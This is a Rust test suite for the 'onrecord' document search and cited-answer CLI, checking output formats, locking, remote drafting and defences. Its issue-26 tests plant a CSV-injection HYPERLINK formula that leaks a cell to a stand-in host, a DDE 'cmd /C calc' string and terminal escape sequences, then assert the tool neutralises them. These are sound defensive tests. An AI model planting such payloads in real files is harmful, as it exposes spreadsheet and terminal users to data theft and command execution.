//! The command line as a user meets it: exit codes, JSON output, help.

use crate::support::write;
use std::process::Command;

fn onrecord(args: &[&str], index: &std::path::Path) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_onrecord"))
        .args(args)
        .env("ONRECORD_INDEX", index)
        .env_remove("RUST_LOG")
        .output()
        .expect("the binary runs")
}

#[test]
fn add_find_and_answer_from_the_command_line() {
    let src = tempfile::tempdir().unwrap();
    let idx = tempfile::tempdir().unwrap();
    write(
        src.path(),
        "minutes.txt",
        "The board of the Port Aubrel Harbour Authority approved the dredging amendment of $1.4 million on 3 June 2020.",
    );
    write(src.path(), "broken.pdf", b"%PDF-1.7 garbage");
    let src_arg = src.path().to_str().unwrap();

    let out = onrecord(&["add", src_arg, "--json"], idx.path());
    assert_eq!(
        out.status.code(),
        Some(1),
        "a failed file makes `add` exit 1"
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["report"]["ingested"], 1);
    assert_eq!(v["report"]["failed"], 1);
    assert!(
        v["diagnostics"][0]["path"]
            .as_str()
            .unwrap()
            .ends_with("broken.pdf")
    );

    let out = onrecord(&["find", "dredging amendment", "--json"], idx.path());
    assert!(out.status.success());
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["results"][0]["doc_id"], "minutes");
    assert_eq!(v["results"][0]["page"], 1);

    let out = onrecord(&["find", "dredging amendment"], idx.path());
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("«dredging» «amendment»"), "{text}");

    let out = onrecord(
        &[
            "answer",
            "How much was the dredging amendment the board approved?",
            "--json",
        ],
        idx.path(),
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    for key in [
        "schema_version",
        "question",
        "config",
        "retrieved",
        "sentences",
        "caution",
    ] {
        assert!(v.get(key).is_some(), "answer record lacks {key}");
    }
    let s = &v["sentences"][0];
    assert_eq!(s["verdict"], "supported");
    for key in ["doc_id", "title", "page", "quote"] {
        assert!(s["citations"][0].get(key).is_some(), "citation lacks {key}");
    }
    assert!(v["retrieved"][0]["hash"].as_str().unwrap().len() == 64);
    let schema: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/eval/answer-record.schema.json"
        ))
        .unwrap(),
    )
    .unwrap();
    let problems = crate::support::schema_problems(&v, &schema, "$");
    assert!(
        problems.is_empty(),
        "answer record breaks its schema: {problems:#?}"
    );
    // The checker itself rejects a record that breaks the schema.
    let mut broken = v.clone();
    broken["sentences"][0]["verdict"] = "maybe".into();
    broken.as_object_mut().unwrap().remove("question");
    assert_eq!(
        crate::support::schema_problems(&broken, &schema, "$").len(),
        2
    );

    let out = onrecord(
        &["answer", "How much was the dredging amendment?"],
        idx.path(),
    );
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("Caution:"), "{text}");
    // The ledger: each numbered claim is followed at once by its proof and
    // then by where it is, `doc-id · p. N`.
    let lines: Vec<&str> = text.lines().collect();
    let claims: Vec<usize> = (0..lines.len())
        .filter(|&i| lines[i].trim_start().starts_with("1  "))
        .collect();
    assert_eq!(claims.len(), 1, "{text}");
    let i = claims[0];
    assert!(lines[i].contains("$1.4 million"), "{text}");
    assert!(lines[i + 1].trim_start().starts_with("proof"), "{text}");
    assert!(lines[i + 1].contains("$1.4 million"), "{text}");
    assert!(
        lines[i + 2].trim_start().starts_with("from")
            && lines[i + 2].contains("minutes \u{b7} p. 1"),
        "{text}"
    );
}

#[test]
fn clear_errors_for_a_missing_index_and_bad_arguments() {
    let idx = tempfile::tempdir().unwrap();
    let out = onrecord(&["find", "anything"], &idx.path().join("nothing-here"));
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(
        err.contains("no index at") && err.contains("onrecord add"),
        "{err}"
    );

    let out = onrecord(&["find", "x", "--from", "March 2020"], idx.path());
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8(out.stderr)
            .unwrap()
            .contains("YYYY-MM-DD")
    );

    let out = onrecord(&["--help"], idx.path());
    let help = String::from_utf8(out.stdout).unwrap();
    // The command list is the project's own vocabulary: each command is
    // listed, and the generic verbs it replaced are not commands.
    let listed: Vec<&str> = help
        .lines()
        .skip_while(|l| !l.starts_with("Commands:"))
        .skip(1)
        .take_while(|l| l.starts_with("  "))
        .filter_map(|l| l.split_whitespace().next())
        .collect();
    for cmd in [
        "add", "find", "answer", "replay", "records", "web", "models", "demo", "eval",
    ] {
        assert!(listed.contains(&cmd), "help lacks {cmd}: {listed:?}");
    }
    for old in ["ingest", "search", "ask", "docs", "serve"] {
        assert!(!listed.contains(&old), "{old} is still a command");
        let out = onrecord(&[old, "x"], idx.path());
        assert_eq!(out.status.code(), Some(2), "{old} was accepted");
    }
    let out = onrecord(&["models", "--help"], idx.path());
    let help = String::from_utf8(out.stdout).unwrap();
    assert!(help.contains("fetch") && help.contains("where"), "{help}");
    assert!(!help.contains("pull") && !help.contains("  list"), "{help}");
}

/// Without a model: one line says so, and search, ask and ingest carry on
/// with BM25. With the default model (when present): hybrid by default,
/// each result explained, and `--retriever` honoured.
#[test]
fn retrievers_from_the_command_line_with_and_without_a_model() {
    let src = tempfile::tempdir().unwrap();
    let idx = tempfile::tempdir().unwrap();
    let empty = tempfile::tempdir().unwrap();
    write(
        src.path(),
        "memo.txt",
        "The budget for the Pier 3 works has increased by $2.3M because of a boulder layer.",
    );
    write(
        src.path(),
        "minutes.txt",
        "The transit board cancelled bus route 90X after ridership fell.",
    );
    let run = |args: &[&str], models: &std::path::Path| {
        Command::new(env!("CARGO_BIN_EXE_onrecord"))
            .args(args)
            .env("ONRECORD_INDEX", idx.path())
            .env("ONRECORD_MODELS", models)
            .env("HF_HOME", empty.path())
            .env_remove("ONRECORD_EMBEDDER")
            .output()
            .expect("the binary runs")
    };
    let out = run(&["add", src.path().to_str().unwrap()], empty.path());
    assert!(out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        err.lines()
            .filter(|l| l.contains("using BM25 only"))
            .count(),
        1,
        "{err}"
    );
    let out = run(&["find", "pier budget", "--json"], empty.path());
    assert!(out.status.success());
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["retriever"], "bm25");
    assert_eq!(v["results"][0]["signals"][0]["retriever"], "bm25");
    // A model folder that is not there is an error that names it.
    let out = run(
        &["find", "pier", "--embedder", "/no/such/model"],
        empty.path(),
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("/no/such/model"));

    let Some(_) = crate::support::model() else {
        return;
    };
    let models = onrecord::embed::models_dir();
    // The model is now found: re-running ingest embeds the stored chunks.
    let out = run(&["add", src.path().to_str().unwrap(), "--json"], &models);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["embedding"]["report"]["embedded"], 2);
    let out = run(
        &["find", "cost overruns on the ferry terminal", "--json"],
        &models,
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["retriever"], "hybrid");
    assert_eq!(v["results"][0]["doc_id"], "memo", "{v:#}");
    let signals = v["results"][0]["signals"].as_array().unwrap();
    assert_eq!(signals.len(), 2);
    assert_eq!(v["fusion"]["k"], 60.0);
    let out = run(
        &["find", "cost overruns on the ferry terminal", "--why"],
        &models,
    );
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.contains("why: bm25") && text.contains("dense #1"),
        "{text}"
    );
    let out = run(
        &["find", "ferry", "--retriever", "dense", "--json"],
        &models,
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["retriever"], "dense");
}

/// The README's demo command: BM25 alone with no model on the machine,
/// hybrid retrieval when the default model is present.
#[test]
fn the_demo_command_uses_hybrid_when_the_model_is_present() {
    if !crate::support::slow_enabled("demo_command_retrievers") {
        return;
    }
    let empty = tempfile::tempdir().unwrap();
    // One work folder for both runs, as a reader who fetches the model after
    // a first demo has it: the second run finds the release built and the
    // documents unchanged, and adds the vectors hybrid retrieval needs.
    let work = tempfile::tempdir().unwrap();
    let demo = |models: &std::path::Path| {
        let out = Command::new(env!("CARGO_BIN_EXE_onrecord"))
            .args(["demo", "--json", "--workdir"])
            .arg(work.path())
            .env("ONRECORD_MODELS", models)
            .env("HF_HOME", empty.path())
            .env_remove("ONRECORD_EMBEDDER")
            .output()
            .expect("the binary runs");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let records: Vec<serde_json::Value> = String::from_utf8(out.stdout)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(records.len(), onrecord::demo::SAMPLE_QUESTIONS.len());
        (records, String::from_utf8(out.stderr).unwrap())
    };
    let (records, err) = demo(empty.path());
    assert!(err.contains("Retrieval: BM25 only"), "{err}");
    assert!(records.iter().all(|r| r["config"]["retriever"] == "bm25"));

    if crate::support::model().is_none() {
        return;
    }
    let (records, err) = demo(&onrecord::embed::models_dir());
    assert!(err.contains("Retrieval: hybrid"), "{err}");
    assert!(err.contains(" 0 added, "), "documents read again: {err}");
    for r in &records {
        assert_eq!(r["config"]["retriever"], "hybrid");
        assert!(
            r["config"]["embedder"]
                .as_str()
                .is_some_and(|e| e.starts_with("all-MiniLM-L6-v2@")),
            "{r}"
        );
    }
}

/// `answer --drafter remote` end to end through the binary, against a loopback
/// OpenAI-compatible server: the draft streams to standard error, the
/// verified answer goes to standard output, and `--json` carries both the
/// raw draft and the verdicts.
#[test]
fn ask_with_a_remote_drafter_streams_then_verifies() {
    use crate::endpoint::{Reply, serve};
    let src = tempfile::tempdir().unwrap();
    let idx = tempfile::tempdir().unwrap();
    write(
        src.path(),
        "minutes.txt",
        "The board approved the dredging amendment of $1.4 million on 3 June 2020.",
    );
    let out = onrecord(&["add", src.path().to_str().unwrap(), "--json"], idx.path());
    assert!(out.status.success());
    let draft = "The board approved $1.4 million for dredging. [1] \"The board approved the dredging amendment of $1.4 million\"\nThe board also bought a ferry.";
    let pieces: Vec<String> = draft.split_inclusive(' ').map(str::to_string).collect();
    let ep = serve(vec![Reply::Stream(pieces.clone()), Reply::Stream(pieces)]);
    let args = |json: bool| {
        let mut a = vec![
            "answer",
            "How much was the dredging amendment?",
            "--drafter",
            "remote",
            "--remote-url",
            ep.base_url.as_str(),
            "--remote-model",
            "test-model",
        ];
        if json {
            a.push("--json");
        }
        a
    };
    let out = onrecord(&args(false), idx.path());
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8(out.stderr).unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        err.contains("Draft by test-model at") && err.contains("bought a ferry"),
        "{err}"
    );
    assert!(
        text.contains(" 1  The board approved $1.4 million for dredging.\n"),
        "{text}"
    );
    assert!(
        text.contains("STRUCK BY THE VERIFIER (1)") && text.contains("no citation"),
        "{text}"
    );
    assert!(text.contains("Caution:"), "{text}");

    let out = onrecord(&args(true), idx.path());
    assert!(out.status.success());
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["draft"]["raw"], draft);
    assert_eq!(v["sentences"][0]["verdict"], "supported");
    assert_eq!(v["sentences"][1]["verdict"], "struck");
    assert!(
        v["config"]["drafter"]
            .as_str()
            .unwrap()
            .starts_with("model:test-model")
    );
    let schema: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(
            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("eval/answer-record.schema.json"),
        )
        .unwrap(),
    )
    .unwrap();
    let problems = crate::support::schema_problems(&v, &schema, "$");
    assert!(problems.is_empty(), "{problems:#?}");
}

#[test]
fn a_remote_drafter_without_a_url_says_what_is_missing() {
    let idx = tempfile::tempdir().unwrap();
    let src = tempfile::tempdir().unwrap();
    write(src.path(), "a.txt", "The board met on 3 June 2020.");
    onrecord(&["add", src.path().to_str().unwrap()], idx.path());
    let out = Command::new(env!("CARGO_BIN_EXE_onrecord"))
        .args(["answer", "When did the board meet?", "--drafter", "remote"])
        .env("ONRECORD_INDEX", idx.path())
        .env_remove("ONRECORD_REMOTE_URL")
        .env_remove("ONRECORD_REMOTE_MODEL")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("--drafter remote needs --remote-url"), "{err}");
}

/// The settings file supplies the drafter and the endpoint; a flag still
/// overrides it; a file holding a key is refused, naming the file.
#[test]
fn the_settings_file_sets_drafting_defaults_and_never_holds_a_key() {
    use crate::endpoint::{Reply, serve};
    let src = tempfile::tempdir().unwrap();
    let idx = tempfile::tempdir().unwrap();
    write(
        src.path(),
        "minutes.txt",
        "The board approved the dredging amendment of $1.4 million on 3 June 2020.",
    );
    onrecord(&["add", src.path().to_str().unwrap()], idx.path());
    let ep = serve(vec![Reply::Stream(vec![
        "The amendment was $1.4 million. [1] \"the dredging amendment of $1.4 million\"".into(),
    ])]);
    let conf = tempfile::tempdir().unwrap();
    let good = write(
        conf.path(),
        "config.json",
        format!(
            r#"{{"drafter": "remote", "remote": {{"url": "{}", "model": "settings-model", "timeout_secs": 20}}}}"#,
            ep.base_url
        ),
    );
    let run = |config: &std::path::Path, extra: &[&str]| {
        let mut args = vec!["answer", "How much was the dredging amendment?", "--json"];
        args.extend_from_slice(extra);
        Command::new(env!("CARGO_BIN_EXE_onrecord"))
            .args(&args)
            .env("ONRECORD_INDEX", idx.path())
            .env("ONRECORD_CONFIG", config)
            .env_remove("ONRECORD_DRAFTER")
            .env_remove("ONRECORD_REMOTE_URL")
            .env_remove("ONRECORD_REMOTE_MODEL")
            .output()
            .unwrap()
    };
    let out = run(&good, &[]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        v["draft"]["model"]
            .as_str()
            .unwrap()
            .starts_with("settings-model at")
    );
    assert_eq!(v["sentences"][0]["verdict"], "supported");
    assert_eq!(
        ep.requests.lock().unwrap()[0].body["model"],
        "settings-model"
    );
    // A flag wins over the file: no model, no request.
    let out = run(&good, &["--drafter", "extractive"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(v.get("draft").is_none());
    assert_eq!(ep.requests.lock().unwrap().len(), 1);

    let bad = write(
        conf.path(),
        "bad.json",
        r#"{"remote": {"url": "http://x/v1", "api_key": "sk-live-123"}}"#,
    );
    let out = run(&bad, &[]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(
        err.contains("bad.json") && err.contains("holds an API key"),
        "{err}"
    );
    assert!(!err.contains("sk-live-123"), "{err}");
}

/// `eval verifier` on a small pair file: the stable JSON keys, the figures
/// computed from the verdicts (balanced accuracy = mean of retention and
/// 1 − pass-through), and a clear error naming the file and line.
#[test]
fn eval_verifier_reports_stable_keys_from_the_command_line() {
    let dir = tempfile::tempdir().unwrap();
    let pairs = dir.path().join("pairs.jsonl");
    let lines = [
        r#"{"id":"a","claim":"The budget rose to $4.1 million.","evidence":"The budget rose to $4,100,000 in 2020.","label":"supported"}"#,
        r#"{"id":"b","claim":"The ramp closed in March 2022.","evidence":["The inspector visited.","The ramp closed on 14 March 2022."],"label":"supported"}"#,
        r#"{"id":"c","claim":"The budget rose to $1.4 million.","evidence":"The budget rose to $4,100,000 in 2020.","label":"unsupported"}"#,
        r#"{"id":"d","claim":"The board approved the plan.","evidence":"The board did not approve the plan.","label":"unsupported"}"#,
    ];
    std::fs::write(&pairs, lines.join("\n")).unwrap();
    for judge in ["rules", "learned"] {
        let out = onrecord(
            &[
                "eval",
                "verifier",
                "--pairs",
                pairs.to_str().unwrap(),
                "--judge",
                judge,
                "--json",
            ],
            dir.path(),
        );
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(v["pairs"], 4);
        let f = |k: &str| v[k].as_f64().unwrap();
        assert_eq!(f("pass_through"), 0.0, "{judge}: {v}");
        assert!(
            (f("balanced_accuracy") - (f("retention") + 1.0 - f("pass_through")) / 2.0).abs()
                < 1e-9
        );
        assert_eq!(v["strike_reasons"]["amount differs"], 1, "{v}");
        if judge == "rules" {
            assert_eq!(f("retention"), 1.0, "{v}");
            assert_eq!(f("balanced_accuracy"), 1.0, "{v}");
        }
    }
    std::fs::write(&pairs, "{\"id\":\"a\",\"claim\":\"x\"}\n").unwrap();
    let out = onrecord(
        &["eval", "verifier", "--pairs", pairs.to_str().unwrap()],
        dir.path(),
    );
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("pairs.jsonl") && err.contains("line 1"),
        "{err}"
    );
}

/// `eval make-pairs` writes the same pairs twice (seeded), and every pair
/// parses back.
#[test]
fn make_pairs_is_deterministic() {
    let Some(squad) = crate::support::shared_data("squad-v1.1/dev-v1.1.json") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let run = |name: &str| {
        let out_file = dir.path().join(name);
        let out = onrecord(
            &[
                "eval",
                "make-pairs",
                "--squad",
                squad.to_str().unwrap(),
                "--articles",
                "25-26",
                "--out",
                out_file.to_str().unwrap(),
            ],
            dir.path(),
        );
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        std::fs::read_to_string(out_file).unwrap()
    };
    let (a, b) = (run("a.jsonl"), run("b.jsonl"));
    assert_eq!(a, b);
    let pairs = onrecord::eval::pairs::read_pairs(&dir.path().join("a.jsonl")).unwrap();
    for kind in [
        "verbatim",
        "clause",
        "variant",
        "number",
        "entity",
        "negation",
        "answer",
        "other-paragraph",
    ] {
        assert!(
            pairs.iter().any(|p| p.kind.as_deref() == Some(kind)),
            "no {kind} pair"
        );
    }
}

/// Issue 22, two writers: a second `add` or `reindex` while one runs is
/// refused at once, naming the holder, and stores nothing; `find` during an
/// `add` searches what is committed, with a note, never advises `reindex`,
/// and never rebuilds BM25 under the writer's feet.
#[test]
fn one_writer_at_a_time_and_readers_never_wait_issue_22() {
    let src = tempfile::tempdir().unwrap();
    let idx = tempfile::tempdir().unwrap();
    write(
        src.path(),
        "a.txt",
        "The ferry ramp hinge cracked in April 2021.",
    );
    let add = |idx: &std::path::Path| {
        onrecord(
            &["add", src.path().to_str().unwrap(), "--embedder", "off"],
            idx,
        )
    };
    let find = |idx: &std::path::Path| {
        let out = onrecord(&["find", "ramp hinge", "--json", "--embedder", "off"], idx);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        (v, String::from_utf8(out.stderr).unwrap())
    };
    let documents = |idx: &std::path::Path| {
        let out = onrecord(&["records", "--json"], idx);
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        v.as_array().unwrap().len()
    };
    assert!(add(idx.path()).status.success());

    // Another process writes the index: this test holds its writer lock,
    // as a running `add` does.
    let held = onrecord::lock::acquire(idx.path(), "`onrecord add`").unwrap();
    write(src.path(), "b.txt", "The gangway was replaced in May 2022.");
    let started = std::time::Instant::now();
    let out = add(idx.path());
    let err = String::from_utf8(out.stderr).unwrap();
    assert_eq!(out.status.code(), Some(1), "{err}");
    let holder = format!(
        "being written by `onrecord add` (process {}",
        std::process::id()
    );
    assert!(
        err.contains(&holder) && err.contains("wait for it to finish"),
        "{err}"
    );
    // At once, not after the BM25 lock's retries (5 s before the fix).
    assert!(started.elapsed() < std::time::Duration::from_secs(4));
    let out = onrecord(&["reindex", "--embedder", "off"], idx.path());
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8(out.stderr).unwrap().contains(&holder));
    assert_eq!(documents(idx.path()), 1, "the refused run stored nothing");

    // A reader searches what is committed, and says why it may be partial.
    let (v, err) = find(idx.path());
    assert_eq!(v["results"][0]["doc_id"], "a");
    assert!(err.contains("being written by `onrecord add`"), "{err}");
    assert!(!err.contains("reindex"), "{err}");
    // BM25 behind the store while the writer runs: not rebuilt here.
    std::fs::remove_dir_all(idx.path().join("bm25")).unwrap();
    let (v, _) = find(idx.path());
    assert_eq!(v["results"].as_array().unwrap().len(), 0, "{v}");

    // The writer is done: the next reader rebuilds, the next add goes in.
    drop(held);
    let (v, err) = find(idx.path());
    assert_eq!(v["results"][0]["doc_id"], "a", "{v}");
    assert!(!err.contains("being written"), "{err}");
    assert!(add(idx.path()).status.success());
    assert_eq!(documents(idx.path()), 2);
}

/// Issue 22, two writers for real: two `add` runs started together on the
/// same index. Whichever loses the race is refused naming the other; none
/// fails with a raw database error; the index holds every file once.
#[test]
fn two_adds_started_together_issue_22() {
    let src = tempfile::tempdir().unwrap();
    let idx = tempfile::tempdir().unwrap();
    // Enough text that one run outlasts the other's start (about a second
    // here), so the two overlap.
    let n = 1200;
    for i in 0..n {
        let text: Vec<String> = (0..60)
            .map(|j| {
                format!("Memo {i}, line {j}: the harbour board approved item {j} on 3 June 2020.")
            })
            .collect();
        write(src.path(), &format!("memo-{i:04}.txt"), text.join(" "));
    }
    let spawn = || {
        Command::new(env!("CARGO_BIN_EXE_onrecord"))
            .args([
                "add",
                src.path().to_str().unwrap(),
                "--embedder",
                "off",
                "--quiet",
            ])
            .env("ONRECORD_INDEX", idx.path())
            .env_remove("RUST_LOG")
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    let (a, b) = (spawn(), spawn());
    let pids = [a.id(), b.id()];
    let outs = [a.wait_with_output().unwrap(), b.wait_with_output().unwrap()];
    let mut ok = 0;
    for (i, out) in outs.iter().enumerate() {
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!err.contains("database is locked"), "{err}");
        if out.status.success() {
            ok += 1;
        } else {
            let other = pids[1 - i];
            assert!(
                err.contains(&format!("being written by `onrecord add` (process {other}")),
                "{err}"
            );
        }
    }
    assert!(ok >= 1, "one of the two runs stores the release");
    let out = onrecord(&["records", "--json"], idx.path());
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v.as_array().unwrap().len(), n);
    crate::support::figure(&format!(
        "two adds of {n} files started together: {} refused naming the holder, none failed otherwise",
        2 - ok
    ));
}

/// Issue 26, item 6: escape sequences inside a record (ECMA-48 OSC 0 sets
/// the window title, CSI 2 J clears the screen) are shown as symbols by
/// `answer`, `find`, `history` and `records`, never sent to the terminal;
/// the JSON keeps the record's characters, escaped as JSON escapes them.
#[test]
fn terminal_controls_in_records_are_shown_not_sent_issue_26() {
    let src = tempfile::tempdir().unwrap();
    let idx = tempfile::tempdir().unwrap();
    write(
        src.path(),
        "minutes.txt",
        "The board approved the dredging amendment of $1.4 million on 3 June 2020.\u{1b}]0;owned\u{7}\u{1b}[2J\n\
         The dredging contract went to Sallowcrest Marine.\r\u{1b}[1A\u{9b}2K\n",
    );
    assert!(
        onrecord(
            &[
                "add",
                src.path().to_str().unwrap(),
                "--title",
                "Minutes\u{1b}[31m"
            ],
            idx.path()
        )
        .status
        .success()
    );
    let question = "How much was the dredging amendment?\u{1b}[2J";
    for args in [
        vec!["answer", question],
        vec!["find", "dredging amendment"],
        vec!["find", "dredging amendment", "--why"],
        vec!["history"],
        vec!["records"],
    ] {
        let out = onrecord(&args, idx.path());
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let text = String::from_utf8(out.stdout).unwrap();
        let controls: Vec<char> = text
            .chars()
            .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
            .collect();
        assert!(controls.is_empty(), "{args:?} sent {controls:?}:\n{text}");
        assert!(
            text.contains('\u{241b}'),
            "{args:?} shows the escape:\n{text}"
        );
    }
    let out = onrecord(&["answer", question, "--json"], idx.path());
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        v["question"].as_str().unwrap().contains('\u{1b}'),
        "JSON keeps it"
    );
}

/// Issue 26, item 5: CSV cells from records and questions that a
/// spreadsheet would run as formulas are neutralised as the OWASP guidance
/// on CSV injection says (a leading apostrophe), in `answer --csv` and
/// `replay --csv`; the CSV still reads back with a general-purpose reader.
#[test]
fn csv_exports_carry_no_live_formula_issue_26() {
    let src = tempfile::tempdir().unwrap();
    let idx = tempfile::tempdir().unwrap();
    write(
        src.path(),
        "minutes.txt",
        "The board approved the dredging amendment of $1.4 million on 3 June 2020.\n",
    );
    let title = "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"Open the minutes\")";
    let out = onrecord(
        &[
            "add",
            src.path().to_str().unwrap(),
            "--title",
            title,
            "--set-org",
            "@SUM(1+1)*cmd|' /C calc'!A0",
        ],
        idx.path(),
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let question = "+How much was the dredging amendment?";
    let answer = onrecord(&["answer", question, "--csv"], idx.path());
    assert!(answer.status.success());
    let saved = onrecord(&["answer", question, "--json"], idx.path());
    let file = idx.path().join("answer.json");
    std::fs::write(&file, &saved.stdout).unwrap();
    let replayed = onrecord(&["replay", file.to_str().unwrap(), "--csv"], idx.path());
    for (what, out) in [("answer", &answer.stdout), ("replay", &replayed.stdout)] {
        let mut rdr = csv::Reader::from_reader(out.as_slice());
        let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
        assert!(!rows.is_empty(), "{what}");
        for r in &rows {
            for cell in r.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{what}: live formula {cell:?}"
                );
            }
            assert_eq!(&r[0], format!("'{question}"), "{what}");
            assert_eq!(&r[5], format!("'{title}"), "{what}");
        }
    }
}

/// Issue 26, item 10: the answer log can be shortened on request. `history
/// --keep N` deletes all but the newest N answers and the page texts only
/// they cite; what remains still replays.
#[test]
fn the_answer_log_is_pruned_on_request_issue_26() {
    let src = tempfile::tempdir().unwrap();
    let idx = tempfile::tempdir().unwrap();
    let file = write(
        src.path(),
        "minutes.txt",
        "The board approved the dredging amendment of $1.4 million on 3 June 2020.\n",
    );
    let add = || onrecord(&["add", src.path().to_str().unwrap()], idx.path());
    let ask = || {
        let out = onrecord(
            &["answer", "How much was the dredging amendment?"],
            idx.path(),
        );
        assert!(out.status.success());
    };
    assert!(add().status.success());
    ask();
    ask();
    // A new version of the record: the old page's text is kept for the
    // two answers that cite it.
    std::fs::write(
        &file,
        "The board approved the dredging amendment of $1.4 million on 3 June 2020.\nThe work began in July.\n",
    )
    .unwrap();
    assert!(add().status.success());
    ask();
    let history = |args: &[&str]| {
        let mut all = vec!["history", "--json"];
        all.extend_from_slice(args);
        let out = onrecord(&all, idx.path());
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()
    };
    let v = history(&[]);
    assert_eq!(v["answers"].as_array().unwrap().len(), 3);
    assert!(v.get("pruned").is_none(), "listing never prunes");
    let v = history(&["--keep", "1"]);
    assert_eq!(v["pruned"]["answers"], 2, "{v}");
    assert_eq!(v["pruned"]["page_texts"], 1, "the old version's page: {v}");
    let left = v["answers"].as_array().unwrap();
    assert_eq!(left.len(), 1);
    let id = left[0]["id"].as_u64().unwrap().to_string();
    let out = onrecord(&["replay", "--id", &id], idx.path());
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let v = history(&["--keep", "1"]);
    assert_eq!(
        v["pruned"],
        serde_json::json!({"answers": 0, "page_texts": 0})
    );
}
